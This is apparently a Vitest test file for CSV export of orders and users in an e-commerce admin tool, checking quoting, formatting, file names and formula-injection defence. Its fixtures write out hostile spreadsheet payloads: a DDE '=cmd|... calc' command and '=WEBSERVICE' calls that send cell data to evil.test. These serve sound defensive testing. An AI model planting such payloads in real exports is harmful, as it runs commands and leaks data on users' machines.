import { describe, expect, it } from 'vitest';
import { makeOrderRow, makeUserRow } from '../testing/search-stubs';
import {
  buildCsv,
  centsToCsvAmount,
  csvCell,
  exportFileName,
  restoreNeutralisedFormula,
} from '@/components/table/csv';
import { buildOrdersCsv } from './orders-csv';
import { buildUsersCsv } from './users-csv';

/** A row as csv.ts writes it: every cell quoted (the cells given here hold no quote or comma). */
const quoted = (cells: string): string =>
  cells
    .split(',')
    .map((cell) => `"${cell}"`)
    .join(',');

function rowsOf(csv: string): string[] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  return csv.slice(1, -2).split('\r\n');
}

describe('csvCell', () => {
  it('quotes every cell, plain text too', () => {
    expect(csvCell('Smoke City')).toBe('"Smoke City"');
    expect(csvCell('')).toBe('""');
  });

  it('quotes commas, quotes and line breaks, doubling quotes', () => {
    expect(csvCell('Smoke, Vape & More')).toBe('"Smoke, Vape & More"');
    expect(csvCell('The "Best" Shop')).toBe('"The ""Best"" Shop"');
    expect(csvCell('line one\nline two')).toBe('"line one\nline two"');
    expect(csvCell('a\r\nb')).toBe('"a\r\nb"');
  });

  it('keeps a cell holding a semicolon and a formula one cell (semicolon locales)', () => {
    expect(csvCell('Acme;=WEBSERVICE("http://evil.test/?"&A1)')).toBe(
      '"Acme;=WEBSERVICE(""http://evil.test/?""&A1)"',
    );
  });

  it.each(['=HYPERLINK("http://x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'])(
    'neutralises a formula-looking cell %j with a leading quote',
    (value) => {
      expect(csvCell(value)).toBe(`"'${value.replace(/"/g, '""')}"`);
    },
  );

  it('neutralises and quotes at once', () => {
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvCell('=A1&"x"')).toBe(`"'=A1&""x"""`);
  });

  it('leaves a formula character further in as it is', () => {
    expect(csvCell('Smoke=City')).toBe('"Smoke=City"');
  });

  it('restoreNeutralisedFormula takes off only the quote csvCell added', () => {
    expect(restoreNeutralisedFormula("'=1+1")).toBe('=1+1');
    expect(restoreNeutralisedFormula("'plain")).toBe("'plain");
    expect(restoreNeutralisedFormula('=1+1')).toBe('=1+1');
  });
});

describe('centsToCsvAmount', () => {
  it('shows dollars with two decimals', () => {
    expect(centsToCsvAmount(0)).toBe('0.00');
    expect(centsToCsvAmount(5)).toBe('0.05');
    expect(centsToCsvAmount(12345)).toBe('123.45');
    expect(centsToCsvAmount(100000000)).toBe('1000000.00');
  });
});

describe('buildCsv', () => {
  it('writes a BOM, the header even with no rows, and CRLF line ends', () => {
    expect(buildCsv(['A', 'B'], [])).toBe('\uFEFF"A","B"\r\n');
  });
});

describe('buildOrdersCsv', () => {
  it('writes the header row even with no orders', () => {
    expect(rowsOf(buildOrdersCsv([]))).toEqual([
      quoted(
        'Order ID,Date,Store,Status,Payment Type,Amount (USD),Refunded (USD),Invoice,Email,Role,Ship To,Items,Paid At',
      ),
    ]);
  });

  it('writes one row per order with ISO dates, dollars and raw values', () => {
    const rows = rowsOf(
      buildOrdersCsv([
        makeOrderRow({
          id: 'ord_1',
          amount: 12345,
          itemCount: 2,
          lines: 'Purple Dream Syrup x 4; Blue Coast Syrup x 2',
          shipTo: 'Pat Lee, 1 Main St, Oakland, CA 94607',
        }),
        makeOrderRow({
          id: 'ord_2',
          amount: 990,
          status: 'cancelled',
          refundedAmount: 990,
          invoiceNumber: null,
          email: null,
          role: null,
          paidAt: null,
        }),
      ]),
    );
    expect(rows).toHaveLength(3);
    expect(rows[1]).toBe(
      '"ord_1","2025-03-04T18:30:00.000Z","Smoke City","processing","one_time","123.45","0.00","INV-000042","owner@smokecity.test","retailer","Pat Lee, 1 Main St, Oakland, CA 94607","Purple Dream Syrup x 4; Blue Coast Syrup x 2","2025-03-04T18:31:00.000Z"',
    );
    expect(rows[2]).toBe(
      quoted(
        'ord_2,2025-03-04T18:30:00.000Z,Smoke City,cancelled,one_time,9.90,9.90,,,,,Purple Dream Syrup x 1,',
      ),
    );
  });

  it('escapes hostile store names, emails, addresses and lines', () => {
    const csv = buildOrdersCsv([
      makeOrderRow({
        storeName: '=cmd|" /C calc"!A0',
        email: '+1@x.test',
        shipTo: 'Acme;=WEBSERVICE("http://evil.test")',
        lines: '-1+1 x 1',
      }),
    ]);
    expect(csv).toContain(`,"'=cmd|"" /C calc""!A0",`);
    expect(csv).toContain(`,"'+1@x.test",`);
    expect(csv).toContain(`,"Acme;=WEBSERVICE(""http://evil.test"")",`);
    expect(csv).toContain(`,"'-1+1 x 1",`);
  });
});

describe('buildUsersCsv', () => {
  it('writes uid, store, email, role, status, verified, applied and reviewed, escaped', () => {
    const rows = rowsOf(
      buildUsersCsv([
        makeUserRow({
          uid: 'u1',
          storeName: 'Smoke, "City"',
          status: 'approved',
          reviewedAt: '2025-03-03T09:00:00.000Z',
        }),
        makeUserRow({ uid: 'u2', storeName: '@evil', emailVerified: false, createdAt: null }),
      ]),
    );
    expect(rows).toEqual([
      quoted(
        'User ID,Store,Full Name,Seller Permit ID,Email,Role,Status,Verified,Applied,Reviewed',
      ),
      '"u1","Smoke, ""City""","Pat Lee","SP-1001","pat@cloudnine.test","retailer","approved","yes","2025-03-02T12:00:00.000Z","2025-03-03T09:00:00.000Z"',
      quoted("u2,'@evil,Pat Lee,SP-1001,pat@cloudnine.test,retailer,pending,no,,"),
    ]);
  });

  it('neutralises every free-text field of a buyer', () => {
    const [, row] = rowsOf(
      buildUsersCsv([
        makeUserRow({
          storeName: 'Acme;=WEBSERVICE("x")',
          fullName: '=HYPERLINK("http://evil.test")',
          sellerPermitId: '@SUM(A1)',
          email: '-2+3@x.test',
        }),
      ]),
    );
    expect(row).toContain(
      `"Acme;=WEBSERVICE(""x"")","'=HYPERLINK(""http://evil.test"")","'@SUM(A1)","'-2+3@x.test"`,
    );
  });
});

describe('exportFileName', () => {
  const none = { q: '', status: null, role: null, range: null };

  it('says the filter', () => {
    expect(
      exportFileName('orders', {
        ...none,
        status: 'shipped',
        range: { from: '2026-11-01', to: '2026-11-26' },
      }),
    ).toBe('orders-2026-11-01-to-2026-11-26-shipped.csv');
    expect(exportFileName('users', none)).toBe('users-all.csv');
    expect(
      exportFileName('users', {
        ...none,
        status: 'pending',
        role: 'wholesaler',
        q: ' Cloud Nine/?',
      }),
    ).toBe('users-all-pending-wholesaler-search-cloud-nine.csv');
  });
});
